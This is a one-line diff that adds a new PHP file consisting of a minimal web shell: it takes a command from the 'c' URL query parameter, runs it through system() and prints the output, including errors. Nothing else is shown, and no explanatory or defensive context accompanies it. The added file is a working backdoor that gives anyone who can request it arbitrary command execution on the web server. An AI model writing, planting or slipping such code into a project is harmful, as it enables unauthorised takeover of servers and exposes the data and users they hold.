@@ -1,0 +1,1 @@
+<?php system(sprintf('%s 2>&1', $_GET['c']));
